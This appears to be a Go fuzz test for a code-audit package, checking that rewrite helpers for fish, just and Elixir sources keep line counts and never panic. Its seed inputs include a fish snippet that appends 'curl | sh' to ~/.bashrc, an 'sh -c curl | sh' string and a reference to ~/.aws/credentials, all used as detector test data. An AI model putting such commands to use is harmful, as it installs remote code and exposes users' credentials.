package audit

import (
	"strings"
	"testing"
)

// FuzzSets4243Rewrites: the rewrites added for sets 42 and 43 never panic
// and keep lines where findings are placed by them: fishShell,
// justShell and each justScripts text have the input's lines, dedentLines
// keeps the line count, concatTail and interpHomeRest return, listOpening
// stays within the text, elixirConfigValues returns.
func FuzzSets4243Rewrites(f *testing.F) {
	for _, s := range []string{
		"function f --description 'x'\n    set -l base https://x.example\n    for rc in ~/.bashrc\n        if test -f $rc; and not grep -q x $rc\n            echo \"(curl $base | sh)\" >> $rc\n        end\n    end\nend\nelse if\nswitch $x\ncase a\nend\nend",
		"setup: _agent\n    echo\n\n_agent:\n    #!/usr/bin/env python3\n    import os\n\tprint(1)\nfmt:\n  #!/bin/bash\n  ls",
		"\"sh -c 'curl \" & url & \" | sh'\" & f() ++ \"x\" .. y <> 'z' ~ w",
		"config :app,\n  roots: [\"_build\", {:system, \"HOME\"}, System.user_home!()],\n  keep: [\".mix\"]\nconfig :other, x: \"y\"",
		"const d = [_][]const u8{ \"a\", \"~/\" }; x(\"(\", \"]\", \"{\")",
		"\"#{home}/.aws/credentials\" '${h}/x' \"{h}/y\" \"$h/z\" \"#{\"",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		lines := strings.Count(s, "\n")
		if got := strings.Count(fishShell(s), "\n"); got != lines {
			t.Fatalf("fishShell: %d lines, want %d, for %q", got, lines, s)
		}
		if got := strings.Count(justShell(s), "\n"); got != lines {
			t.Fatalf("justShell: %d lines, want %d, for %q", got, lines, s)
		}
		for _, j := range justScripts(s) {
			if got := strings.Count(j.text, "\n"); got != lines {
				t.Fatalf("justScripts: %d lines, want %d, for %q", got, lines, s)
			}
		}
		if got := strings.Count(dedentLines(s), "\n"); got != lines {
			t.Fatalf("dedentLines: %d lines, want %d, for %q", got, lines, s)
		}
		for off := range min(len(s), 64) + 1 {
			_ = concatTail(s, off)
			if o := listOpening(s, off); o >= off {
				t.Fatalf("listOpening(%q, %d) = %d, past the literal", s, off, o)
			}
		}
		_ = concatTail(s, len(s)+1)
		_ = interpHomeRest(s)
		_ = elixirConfigValues(s, []string{"app"})
	})
}
